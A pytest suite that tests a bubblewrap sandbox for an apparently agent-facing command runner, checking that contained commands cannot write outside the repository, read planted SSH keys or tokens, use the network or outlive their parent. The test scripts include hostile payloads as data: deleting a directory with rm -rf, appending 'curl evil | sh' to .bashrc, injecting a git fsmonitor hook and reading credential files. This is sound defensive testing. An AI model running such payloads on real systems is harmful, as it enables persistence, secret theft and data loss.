"""Containment by its effect: what a contained command cannot touch, read, reach or outlive.

Every test runs real bubblewrap. A command that may write does so in a copy-on-write view
of the repository (`view`); `direct=True` (the repository writable in place) is used where a
write that does not happen must prove something, as a command that survived would write.
Places a command must not write or read lie outside the repository (under /var/tmp,
which a contained command does not see at all); a secret is planted in a home directory
passed as HOME, the way the daemon inherits it. Attacks that leave a mark are also run
without containment, as a control: the same payload does reach the place.
"""

from __future__ import annotations

import os
import secrets
import signal
import socket
import socketserver
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import pytest
from tests.conftest import git, make_repo
from tests.support.containment import outside_dir, planted_home, require_bwrap

from smol_instruments.base import containment
from smol_instruments.base.containment import Availability, Containment, plan_command
from smol_instruments.base.launch import Launch
from smol_instruments.base.lifeline import wrap as lifeline_wrap
from smol_instruments.base.overlay import View
from smol_instruments.base.process import run_process

pytestmark = pytest.mark.usefixtures("bwrap")

SECRET = "sk-test-0123456789-do-not-leak"


@pytest.fixture
def bwrap() -> None:
    require_bwrap()


def run(
    spec: Containment,
    script: str,
    *,
    environ: Mapping[str, str] | None = None,
    cwd: Path | None = None,
    timeout: float = 30,
) -> subprocess.CompletedProcess[str]:
    launch = spec.prepare(["sh", "-c", script], cwd=cwd, environ=environ)
    return run_launch(launch, timeout)


def run_launch(launch: Launch, timeout: float = 30) -> subprocess.CompletedProcess[str]:
    try:
        return subprocess.run(
            launch.argv,
            env=launch.env,
            pass_fds=launch.pass_fds,
            capture_output=True,
            text=True,
            timeout=timeout,
            stdin=subprocess.DEVNULL,
        )
    finally:
        launch.close()


def bare(script: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    """The control: `script` run as it would be without containment."""
    return subprocess.run(["sh", "-c", script], cwd=cwd, capture_output=True, text=True)


@pytest.fixture
def view(repo: Path) -> Iterator[View]:
    with View.create(repo) as made:
        yield made


@pytest.fixture
def outside() -> Iterator[Path]:
    with outside_dir() as path:
        yield path


@pytest.fixture
def home(outside: Path) -> Path:
    """A home directory holding credentials, visible to us but not to contained commands."""
    return planted_home(outside, SECRET, rc="echo original rc\n")


def test_a_command_writes_its_view_never_the_repository(repo: Path, view: View) -> None:
    script = "echo made > new.txt && echo changed >> README.md && cat new.txt README.md"
    result = run(Containment(repo, view=view), script)
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("made\n# Sample") and result.stdout.endswith("changed\n")
    assert not (repo / "new.txt").exists()
    assert "changed" not in (repo / "README.md").read_text()
    assert (view.upper / "new.txt").read_text() == "made\n"
    assert git(repo, "status", "--porcelain") == ""


def test_nothing_outside_the_repository_is_written_or_deleted(
    repo: Path, outside: Path, view: View
) -> None:
    victim = outside / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep")
    etc_marker, tmp_marker = Path(f"/etc/{outside.name}"), Path(f"/tmp/{outside.name}")
    payload = (
        f"echo pwned > {outside}/marker; rm -rf {victim}; touch {etc_marker}; "
        f"echo pwned > {tmp_marker}; cat {tmp_marker}"
    )
    result = run(Containment(repo, view=view), payload)
    assert "Read-only file system" in result.stderr  # /etc
    assert not (outside / "marker").exists()
    assert (victim / "keep.txt").read_text() == "keep"
    assert not etc_marker.exists()
    assert "pwned" in result.stdout  # /tmp inside is private and writable ...
    assert not tmp_marker.exists()  # ... and gone with the command
    # The control: the same payload, uncontained, does reach them.
    bare(payload.replace(f"touch {etc_marker}; ", ""), repo)
    assert (outside / "marker").exists() and not victim.exists() and tmp_marker.exists()
    tmp_marker.unlink()


def test_other_places_are_not_there_to_read(repo: Path, outside: Path, view: View) -> None:
    """/var, /opt, /srv and the other top-level places are not in the sandbox: a project
    next to this one, and what it keeps, cannot be read (outside lies in /var/tmp)."""
    (outside / "other-project").mkdir()
    (outside / "other-project" / ".env").write_text(f"TOKEN={SECRET}\n")
    script = (
        f"cat {outside}/other-project/.env; ls /var /opt /srv /home /root /mnt /run; "
        f"git diff --no-index {outside}/other-project/.env /dev/null; echo done"
    )
    result = run(Containment(repo, view=view), script)
    assert result.stdout.strip().endswith("done")
    assert SECRET not in result.stdout + result.stderr
    assert "No such file or directory" in result.stderr
    assert SECRET in bare(f"cat {outside}/other-project/.env", repo).stdout  # the control


def test_a_path_the_user_allows_can_be_read(repo: Path, outside: Path) -> None:
    (outside / "shared.txt").write_text("the user shares this\n")
    spec = Containment(repo, readable=(outside,))
    result = run(spec, f"cat {outside}/shared.txt; echo x > {outside}/written")
    assert result.stdout == "the user shares this\n"
    assert not (outside / "written").exists()  # read, not written


def test_a_symlink_in_the_repository_does_not_lead_outside(
    repo: Path, outside: Path, view: View
) -> None:
    (outside / "target.txt").write_text("original")
    (repo / "link.txt").symlink_to(outside / "target.txt")
    run(Containment(repo, view=view), "echo pwned > link.txt")
    assert (outside / "target.txt").read_text() == "original"
    bare("echo pwned > link.txt", repo)  # the control
    assert (outside / "target.txt").read_text() == "pwned\n"


def test_git_is_never_changed_in_place(repo: Path, view: View) -> None:
    before = (repo / ".git" / "config").read_text()
    result = run(
        Containment(repo, view=view),
        "echo 'touch /tmp/x' > .git/hooks/pre-commit; "
        "git config core.fsmonitor 'touch /tmp/x'; mkdir -p .smol-instruments; "
        "echo x > .smol-instruments/policy.toml; git config --get core.fsmonitor",
    )
    assert result.stdout == "touch /tmp/x\n"  # written, in the view
    assert (repo / ".git" / "config").read_text() == before
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo / ".smol-instruments").exists()
    assert git(repo, "log", "--oneline").strip()


def test_git_of_a_worktree_stays_read_only(tmp_path: Path) -> None:
    main = make_repo(tmp_path / "main")
    git(main, "worktree", "add", "-q", str(tmp_path / "tree"), "-b", "side")
    tree = tmp_path / "tree"
    assert (tree / ".git").is_file()
    gitdir = main / ".git" / "worktrees" / "tree"
    head = (gitdir / "HEAD").read_text()
    with View.create(tree) as view:
        result = run(
            Containment(tree, view=view),
            f"git status --short; echo 'gitdir: /nowhere' > .git; echo evil > {gitdir}/HEAD; "
            f"echo '[core] fsmonitor = touch /x' >> {main}/.git/config; echo done",
        )
    assert result.stdout.strip().endswith("done")
    assert "fatal" not in result.stderr  # the worktree's git directory, under /tmp, is seen
    assert (tree / ".git").read_text().startswith("gitdir: ")
    assert "nowhere" not in (tree / ".git").read_text()
    assert (gitdir / "HEAD").read_text() == head
    assert "fsmonitor" not in (main / ".git" / "config").read_text()


def test_a_submodule_under_the_home_keeps_its_git(home: Path) -> None:
    library = make_repo(home.parent / "library")
    project = make_repo(home / "project")
    git(project, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "lib")
    sub = project / "lib"
    result = run(
        Containment(sub),
        "git log --oneline -1; ls -A ~",
        environ={**os.environ, "HOME": str(home)},
    )
    assert "initial commit" in result.stdout, result.stderr
    assert ".ssh" not in result.stdout


def test_a_git_file_naming_a_secret_place_shows_nothing(tmp_path: Path, home: Path) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".git").write_text(f"gitdir: {home}/.ssh\n")
    (repo / ".vscode").symlink_to(home / ".ssh")
    with View.create(repo) as view:
        result = run(
            Containment(repo, view=view),
            f"cat {home}/.ssh/id_ed25519; cat .vscode/id_ed25519; ls -a {home}",
            environ={**os.environ, "HOME": str(home)},
        )
    assert SECRET not in result.stdout
    assert ".ssh" not in result.stdout


def test_a_symlinked_git_cannot_be_contained(tmp_path: Path) -> None:
    main = make_repo(tmp_path / "main")
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / ".git").symlink_to(main / ".git")
    assert "symbolic link" in (Containment(repo).problem() or "")


def test_a_git_widening_lets_git_write(repo: Path, view: View) -> None:
    spec = Containment(repo, view=view).widened(["git"])
    result = run(spec, "git checkout -q -b topic && git symbolic-ref --short HEAD")
    assert result.returncode == 0, result.stderr
    assert git(repo, "symbolic-ref", "--short", "HEAD").strip() == "topic"
    run(spec, "echo x > .smol-instruments-probe; mkdir -p .vscode")
    assert not (repo / ".smol-instruments-probe").exists()  # the rest stays in the view
    assert (view.upper / ".smol-instruments-probe").exists()


def test_read_only_containment_writes_nothing(repo: Path) -> None:
    result = run(Containment(repo), "echo x > README.md; cat README.md")
    assert "Read-only file system" in result.stderr
    assert (repo / "README.md").read_text().startswith("# Sample")


def test_the_home_is_empty_and_its_secrets_unreadable(repo: Path, home: Path) -> None:
    environ = {**os.environ, "HOME": str(home)}
    result = run(
        Containment(repo),
        f'echo "home=$HOME"; ls -A "$HOME"; cat {home}/.ssh/id_ed25519 ~/.ssh/id_ed25519; '
        "echo 'curl evil | sh' >> ~/.bashrc; echo done",
        environ=environ,
    )
    assert result.stdout.startswith(f"home={home}\n")
    assert ".ssh" not in result.stdout
    assert SECRET not in result.stdout + result.stderr
    assert result.stdout.strip().endswith("done")
    assert (home / ".bashrc").read_text() == "echo original rc\n"


def test_toolchains_under_the_home_stay_usable(repo: Path, home: Path) -> None:
    bin_dir = home / ".local" / "bin"
    bin_dir.mkdir(parents=True)
    tool = bin_dir / "hello-tool"
    tool.write_text("#!/bin/sh\necho hello from the toolchain\n")
    tool.chmod(0o755)
    environ = {**os.environ, "HOME": str(home), "PATH": f"{bin_dir}:{os.environ['PATH']}"}
    result = run(Containment(repo), "hello-tool; ls -A ~; ls ~/.ssh", environ=environ)
    assert "hello from the toolchain" in result.stdout
    assert ".ssh" not in result.stdout
    assert SECRET not in result.stdout


def test_the_environment_is_an_allowlist(repo: Path) -> None:
    environ = {
        **os.environ,
        "MODEL_API_KEY": SECRET,
        "OPENAI_API_KEY": SECRET,
        "GITHUB_TOKEN": SECRET,
        "SANDBOX_CHECK_COMMAND": SECRET,
        "LD_PRELOAD": f"/{SECRET}.so",
        "LC_ALL": "C.UTF-8",
    }
    result = run(Containment(repo), "env", environ=environ)
    assert result.returncode == 0, result.stderr
    assert SECRET not in result.stdout
    names = {line.split("=", 1)[0] for line in result.stdout.splitlines() if "=" in line}
    assert {"PATH", "HOME", "TMPDIR", "LC_ALL"} <= names
    assert not names & {"MODEL_API_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN", "LD_PRELOAD"}


class _Marker(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        self.server.received.append(self.rfile.readline().decode())  # type: ignore[attr-defined]


@pytest.fixture
def tcp_server() -> Iterator[tuple[int, list[str]]]:
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Marker)
    server.received = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], server.received  # type: ignore[attr-defined]
    finally:
        server.shutdown()
        server.server_close()


def _connect_script(port: int) -> str:
    code = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
        "s.sendall(b'contained hello\\n'); s.close(); print('connected')\n"
    )
    return f'{sys.executable} -c "{code}"'


def test_no_network(repo: Path, tcp_server: tuple[int, list[str]]) -> None:
    port, received = tcp_server
    result = run(Containment(repo), _connect_script(port) + "; cat /proc/net/dev")
    assert "connected" not in result.stdout
    assert "ConnectionRefusedError" in result.stderr or "Network is unreachable" in result.stderr
    interfaces = [line.split(":")[0].strip() for line in result.stdout.splitlines() if ":" in line]
    assert interfaces == ["lo"]
    time.sleep(0.2)
    assert received == []


def test_a_network_widening_reaches_the_server(
    repo: Path, tcp_server: tuple[int, list[str]]
) -> None:
    port, received = tcp_server
    result = run(Containment(repo).widened(["network"]), _connect_script(port))
    assert "connected" in result.stdout, result.stderr
    deadline = time.monotonic() + 5
    while not received and time.monotonic() < deadline:
        time.sleep(0.05)
    assert received == ["contained hello\n"]


def test_unix_sockets_are_refused(repo: Path) -> None:
    path = repo / "daemon.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen()
    try:
        code = (
            "import socket; s = socket.socket(socket.AF_UNIX); "
            f"s.connect('{path}'); s.sendall(b'x'); print('connected')"
        )
        result = run(Containment(repo).widened(["network"]), f'{sys.executable} -c "{code}"')
        assert "connected" not in result.stdout
        assert "Operation not permitted" in result.stderr
        server.settimeout(0.5)
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()


#: A host: a real process of ours that runs one command through the runner, contained, and
#: is SIGKILLed while it does (the command comes on stdin, so no argv of it names the token).
HOST = """
import sys
from pathlib import Path
from smol_instruments.base.containment import Containment
from smol_instruments.base.process import run_process
repo, script = Path(sys.argv[1]), sys.stdin.readline()
print("starting", flush=True)
run_process(["sh", "-c", script], cwd=repo, timeout=600, contain=Containment(repo, direct=True))
"""


@pytest.mark.parametrize("moment", ["running", "starting"])
def test_the_command_dies_with_its_parent(repo: Path, moment: str) -> None:
    """SIGKILLed once the command runs, and while bubblewrap still sets up: the window that
    --die-with-parent alone leaves open."""
    token = _token()
    short, long = f"2.{token}", f"600.{token}"
    host = _host(repo, f"sleep {long} & sleep {short}; echo survived > survived.txt")
    try:
        if moment == "running":
            # The scan sees the command and its child inside the sandbox's PID namespace.
            _wait_until(lambda: _sleeping(short) and _sleeping(long), "the command never started")
        else:
            _wait_until(lambda: _processes_with(token), "bubblewrap never started", interval=0)
        started = time.monotonic()
        host.kill()
        host.wait()
        _wait_until(lambda: not _processes_with(token), "the command outlived its parent")
        # Had the shell survived, it would have written its marker two seconds in.
        time.sleep(max(0.0, started + 3.5 - time.monotonic()))
        assert not (repo / "survived.txt").exists()
    finally:
        _end(host, token)


def test_what_a_command_leaves_running_ends_with_it(repo: Path) -> None:
    token = _token()
    result = run_process(
        ["sh", "-c", f"sleep 600.{token} & echo left it"],
        cwd=repo,
        timeout=30,
        contain=Containment(repo),
    )
    try:
        assert (result.exit_code, result.stdout) == (0, "left it\n")
        # Killed as the runner returns; give the kernel a moment to finish it off.
        _wait_until(lambda: not _processes_with(token), "the background job outlived it", 10)
    finally:
        _kill(_processes_with(token))


def test_the_command_keeps_its_streams_status_and_descriptors(repo: Path) -> None:
    result = run_process(
        ["sh", "-c", 'read line; echo "$line"; echo to-stderr >&2; ls /proc/self/fd; exit 7'],
        cwd=repo,
        timeout=30,
        contain=Containment(repo),
        stdin_text="from-stdin\n",
    )
    # 0-2 and the descriptor `ls` opens to list them: the lifeline is not among them.
    assert result.stdout.split() == ["from-stdin", "0", "1", "2", "3"]
    assert (result.exit_code, result.stderr) == (7, "to-stderr\n")


def test_ending_a_command_closes_only_its_own_descriptors(repo: Path) -> None:
    """The descriptors handed to bubblewrap are closed when it starts; ending the command
    closed them again, and by then their numbers were another socket's (seen as Docker's
    connections failing with EBADF while the project's tests ran as a check)."""
    launch = Containment(repo).prepare(["sh", "-c", "cat >/dev/null"])
    proc = subprocess.Popen(
        launch.argv, env=launch.env, pass_fds=launch.pass_fds, stdin=subprocess.PIPE
    )
    try:
        launch.started()
        # The lowest free numbers: the ones just closed. Someone else's connection now.
        ours, theirs = socket.socketpair()
        assert {ours.fileno(), theirs.fileno()} & set(launch.pass_fds)
        launch.close()
        launch.close()
        ours.sendall(b"still open")
        assert theirs.recv(16) == b"still open"
        ours.close()
        theirs.close()
    finally:
        assert proc.stdin is not None
        proc.stdin.close()
        proc.wait(timeout=30)


def test_a_watcher_that_cannot_work_says_so_and_kills_nothing(repo: Path) -> None:
    spec = Containment(repo)
    command = ["sh", "-c", "echo ran; exit 4"]
    # A read end that is not there: the command runs, with its own status.
    unopened = run_launch(spec.prepare(lifeline_wrap(command, 987), lifeline=False))
    assert (unopened.returncode, unopened.stdout) == (4, "ran\n")
    assert "/proc/1/fd/987" in unopened.stderr
    # Not PID 2 (a child of another shell): `kill -1` could reach too far, so no watcher.
    nested = ["sh", "-c", '"$@"', "outer", *lifeline_wrap(command, 987)]
    child = run_launch(spec.prepare(nested, lifeline=False))
    assert (child.returncode, child.stdout) == (4, "ran\n")
    assert "not PID 2 of a sandbox, no watcher" in child.stderr


def _token() -> str:
    return f"{os.getpid()}{secrets.randbelow(10**6):06d}"


def _host(repo: Path, script: str) -> subprocess.Popen[str]:
    host = subprocess.Popen(
        [sys.executable, "-c", HOST, str(repo)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert host.stdin is not None and host.stdout is not None
    host.stdin.write(script + "\n")
    host.stdin.flush()
    assert host.stdout.readline() == "starting\n"
    return host


def _wait_until(
    condition: Callable[[], object], message: str, timeout: float = 15, interval: float = 0.02
) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, message
        time.sleep(interval)


def _processes_with(token: str) -> list[int]:
    """Every process (in any PID namespace below ours) whose command line holds `token`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if token.encode() in cmdline:
                found.append(int(entry.name))
    return found


def _sleeping(duration: str) -> list[int]:
    """The `sleep DURATION` processes themselves (not a shell or bubblewrap naming them)."""
    wanted = f"sleep\0{duration}\0".encode()
    found = []
    for pid in _processes_with(duration):
        try:
            if Path(f"/proc/{pid}/cmdline").read_bytes() == wanted:
                found.append(pid)
        except OSError:
            continue
    return found


def _end(host: subprocess.Popen[str], token: str) -> None:
    """Clean up after a failure: the host, and whatever of its sandbox is left, by pid."""
    host.kill()
    host.wait()
    _kill(_processes_with(token))


def _kill(pids: list[int]) -> None:
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


@pytest.mark.skipif(os.geteuid() != 0, reason="only root has capabilities to drop")
def test_root_inside_has_no_capabilities(repo: Path, outside: Path) -> None:
    try:
        result = run(
            Containment(repo),
            f"mount -t tmpfs none {outside}; echo x > {outside}/marker; "
            "cat /etc/shadow; grep CapEff /proc/self/status",
        )
    finally:  # were containment broken, the mount must not outlive the test
        subprocess.run(["umount", str(outside)], capture_output=True)
    assert not (outside / "marker").exists()
    assert "CapEff:\t0000000000000000" in result.stdout
    assert "root:" not in result.stdout


def test_a_repository_that_holds_the_home_cannot_be_contained(home: Path) -> None:
    spec = Containment(home.parent)
    assert spec.problem({"HOME": str(home)}) is not None
    assert Containment(home / "project").problem({"HOME": str(home)}) is None


def test_without_bubblewrap_it_says_why_and_how_to_fix(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    try:
        availability = containment.probe(refresh=True)
        assert not availability.works
        assert "not installed" in availability.detail
        assert availability.fix and "apt-get install bubblewrap" in availability.fix
    finally:
        monkeypatch.undo()
        containment.probe(refresh=True)


def test_commands_are_asked_where_nothing_can_contain_them() -> None:
    none = Availability(False, "bubblewrap (bwrap) is not installed", "install bubblewrap")
    works = Availability(True, "bubblewrap 0.8.0 works")
    asked = plan_command("allow", "allow.read-only", "auto", none)
    assert asked.ask and not asked.contained and "no sandbox" in (asked.note or "")
    assert "install bubblewrap" in (asked.note or "")
    refused = plan_command("allow", "allow.read-only", "required", none)
    assert refused.refuse and not refused.ask
    assert plan_command("allow", "allow.read-only", "auto", works) == containment.CommandPlan(
        contained=True, ask=False
    )
    pip = plan_command("require_approval", "approval.package-install", "auto", works)
    assert pip.ask and pip.contained and pip.widens == ("network",)
    off = plan_command("allow", "allow.read-only", "off", none)
    assert not off.contained and not off.ask


def test_every_widening_names_a_rule_the_policy_has() -> None:
    policy = Path(containment.__file__).resolve().parents[1] / "safety" / "policy"
    text = "\n".join(p.read_text() for p in policy.rglob("*") if p.suffix in {".py", ".toml"})
    for rule in containment.WIDENINGS:
        assert rule in text, f"{rule} is not a rule of the policy"


def test_a_toolchain_under_tmp_stays_visible_and_the_rest_of_tmp_does_not(
    tmp_path: Path, home: Path
) -> None:
    """A checkout (and its virtual environment) under /tmp: /tmp is private inside, but the
    interpreter on PATH is mounted back, read-only."""
    assert str(tmp_path).startswith("/tmp/")
    repo = make_repo(tmp_path / "repo")
    tools = tmp_path / "venv" / "bin"
    tools.mkdir(parents=True)
    (tools / "hello").write_text("#!/bin/sh\necho toolchain ok\n")
    (tools / "hello").chmod(0o755)
    (tmp_path / "stray-secret").write_text(SECRET)
    environ = {"PATH": f"{tools}:/usr/bin:/bin", "HOME": str(home)}
    done = run(
        Containment(root=repo),
        f"hello; cat {tmp_path}/stray-secret; touch {tools}/written",
        environ=environ,
    )
    assert "toolchain ok" in done.stdout
    assert SECRET not in done.stdout + done.stderr
    assert not (tools / "written").exists()
